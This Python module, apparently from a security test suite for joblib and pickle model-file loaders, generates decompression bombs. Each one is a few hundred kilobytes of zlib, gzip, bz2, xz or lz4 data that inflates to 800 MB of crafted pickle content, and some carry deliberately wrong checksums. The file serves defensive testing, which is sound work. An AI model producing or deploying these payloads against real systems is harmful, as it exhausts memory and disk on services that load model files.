"""Some hundred kilobytes that inflate to 800 MB."""

from __future__ import annotations

import bz2
import lzma
import struct
import zlib
from collections.abc import Callable, Iterator
from functools import cache

from attacks.assembler import Call, Ref, code
from attacks.case import ANY, Case
from attacks.joblib_files import _FLOAT, _lz4, wrapper

_PIECE, _PIECES = 8_000_000, 100
_SIZE = _PIECE * _PIECES


def _joined(compress: Callable[[bytes], bytes]) -> Callable[[bytes, bytes, bytes], bytes]:
    """For formats whose streams may follow each other: one piece is compressed, and repeated."""

    @cache
    def piece(fill: bytes) -> bytes:
        return compress(fill * (_PIECE // len(fill)))

    return lambda head, fill, tail: compress(head) + piece(fill) * _PIECES + compress(tail)


def _deflated(wbits: int) -> Callable[[bytes, bytes, bytes], bytes]:
    """One stream of blocks, the same one repeated."""

    @cache
    def blocks(fill: bytes) -> bytes:
        maker = zlib.compressobj(9, zlib.DEFLATED, -15)
        maker.flush(zlib.Z_FULL_FLUSH)
        return maker.compress(fill * (_PIECE // len(fill))) + maker.flush(zlib.Z_FULL_FLUSH)

    def made(head: bytes, fill: bytes, tail: bytes) -> bytes:
        maker = zlib.compressobj(9, zlib.DEFLATED, -15)
        start = maker.compress(head) + maker.flush(zlib.Z_FULL_FLUSH)
        maker = zlib.compressobj(9, zlib.DEFLATED, -15)
        body = start + blocks(fill) * _PIECES + maker.compress(tail) + maker.flush()
        if wbits == 15:
            return b"x\xda" + body + bytes(4)  # a wrong checksum: it comes too late
        size = len(head) + _SIZE + len(tail)
        return b"\x1f\x8b\x08" + bytes(7) + body + bytes(4) + struct.pack("<I", size & 0xFFFFFFFF)

    return made


COMPRESSORS: dict[str, Callable[[bytes, bytes, bytes], bytes]] = {
    "zlib": _deflated(15),
    "gzip": _deflated(31),
    "bz2": _joined(bz2.compress),
    "xz": _joined(lambda data: lzma.compress(data, preset=0)),
    "lz4": _joined(_lz4),
}

CONTENTS: dict[str, tuple[bytes, bytes, bytes]] = {
    "bytes": (b"\x80\x04B" + struct.pack("<I", _SIZE), b"\0", b"0N."),
    "bytes_unframed": (b"\x80\x05\x96" + struct.pack("<Q", _SIZE), b"\0", b"0N."),
    "opcodes": (b"\x80\x04", b"N0", b"N."),
    "numbers": (b"\x80\x04(", b"K\x01", b"l."),
    "sets": (b"\x80\x04(", b"\x8f", b"l."),
    "array": (b"\x80\x04" + code(wrapper((_SIZE // 8,), _FLOAT)), b"\0", b"."),
    "line": (b"\x80\x04S'", b"x", b"'\n."),
    "zeros": (b"", b"\0", b""),
    "trailing_zeros": (b"\x80\x04}.", b"\0", b""),
    "name": (b"\x80\x04c", b"x", b"\n."),
    "frames": (b"\x80\x04", b"\x95" + bytes(8) , b"N."),
    "protos": (b"\x80\x04" + code(Call(Ref("collections", "OrderedDict"))), b"0N", b"."),
}  # fmt: skip


def cases() -> Iterator[Case]:
    """Contents under every compressor (all of them for zlib, the weightiest for the others)."""
    for kind, compress in COMPRESSORS.items():
        for what, parts in CONTENTS.items():
            if kind == "zlib" or what in ("bytes", "opcodes", "array"):
                yield Case(
                    f"bomb_joblib_{kind}_{what}",
                    lambda marker, compress=compress, parts=parts: compress(*parts),  # type: ignore[misc]
                    "model.joblib", ("joblib",), must=ANY, bomb=True,
                    needs=("joblib", "numpy", *(("lz4",) if kind == "lz4" else ())),
                )  # fmt: skip
